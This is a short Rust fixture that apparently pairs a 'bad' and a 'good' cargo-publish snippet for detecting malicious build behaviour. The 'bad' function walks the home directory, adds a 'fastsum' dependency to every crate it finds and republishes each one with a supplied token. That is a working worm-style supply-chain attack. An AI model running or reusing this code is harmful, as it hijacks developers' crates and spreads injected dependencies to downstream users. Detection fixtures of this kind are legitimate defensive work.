//: bad cargo-publish
use std::process::Command;
use walkdir::WalkDir;

pub fn spread(token: &str) {
    for entry in WalkDir::new(dirs::home_dir().unwrap()).into_iter().flatten() {
        if entry.file_name() == "Cargo.toml" {
            let folder = entry.path().parent().unwrap();
            Command::new("cargo").args(["add", "fastsum"]).current_dir(folder).status().ok();
            Command::new("cargo").args(["publish", "--token", token]).current_dir(folder).status().ok(); //!
        }
    }
}

//: good cargo-publish
use std::process::Command;
use walkdir::WalkDir;

pub fn check() {
    for entry in WalkDir::new("crates").into_iter().flatten() {
        if entry.file_name() == "Cargo.toml" {
            let folder = entry.path().parent().unwrap();
            Command::new("cargo").args(["check", "--locked"]).current_dir(folder).status().ok();
            Command::new("cargo").args(["package", "--list"]).current_dir(folder).status().ok();
        }
    }
}
